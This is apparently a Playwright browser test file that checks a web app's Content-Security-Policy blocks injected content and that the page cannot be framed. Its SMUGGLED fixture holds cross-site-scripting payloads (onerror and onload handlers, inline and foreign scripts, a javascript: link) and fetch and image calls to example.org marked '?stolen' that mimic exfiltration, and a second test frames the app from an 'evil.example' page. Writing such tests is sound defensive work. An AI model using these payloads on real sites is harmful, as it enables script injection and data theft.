"""The Content-Security-Policy in a real browser: the page keeps to it, and what is smuggled in does nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser

from tests.browser.driver import PATIENCE, App, Tab

Open = Callable[..., Tab]
pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push([event.violatedDirective, event.blockedURI]));
"""
SMUGGLED = """() => {
  document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.owned = 1">');
  document.body.insertAdjacentHTML("beforeend", '<svg onload="window.owned = 2"></svg>');
  const script = document.createElement("script");
  script.textContent = "window.owned = 3";
  document.body.append(script);
  const link = document.createElement("a");
  link.href = "javascript:window.owned = 4";
  document.body.append(link);
  link.click();
  const foreign = document.createElement("script");
  foreign.src = "https://example.org/x.js";
  document.body.append(foreign);
  return Promise.allSettled([
    fetch("https://example.org/?stolen"),
    new Promise((done, fail) => { const image = new Image(); image.onload = done; image.onerror = fail;
      image.src = "https://example.org/?stolen"; }),
  ]).then((results) => results.map((result) => result.status));
}"""


def test_the_page_keeps_to_its_policy_and_nothing_smuggled_runs(app: App, browser: Browser) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    try:
        page.goto(app.url + "?tab=series&task=impute")
        page.wait_for_selector("#series_impute_plot .js-plotly-plot .scatterlayer path")
        page.click("[role=tab][data-tab-id=lab]")
        page.click("[role=tab][data-tab-id=home]")
        page.wait_for_selector(".hero")
        assert page.evaluate("window.violations") == []
        assert page.evaluate(SMUGGLED) == ["rejected", "rejected"]
        page.wait_for_timeout(500)
        assert page.evaluate("window.owned") is None
        broken = {directive for directive, _ in page.evaluate("window.violations")}
        assert {"connect-src", "img-src", "script-src-elem", "script-src-attr"} <= broken
    finally:
        context.close()


def test_the_page_shows_in_no_frame(app: App, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    try:
        page.route(
            "http://evil.example/",
            lambda route: route.fulfill(body=f'<iframe src="{app.url}"></iframe>', content_type="text/html"),
        )
        page.goto("http://evil.example/")
        page.wait_for_timeout(1500)
        frames = [frame for frame in page.frames if frame != page.main_frame]
        assert not any(frame.locator("#tabs").count() for frame in frames)
    finally:
        context.close()
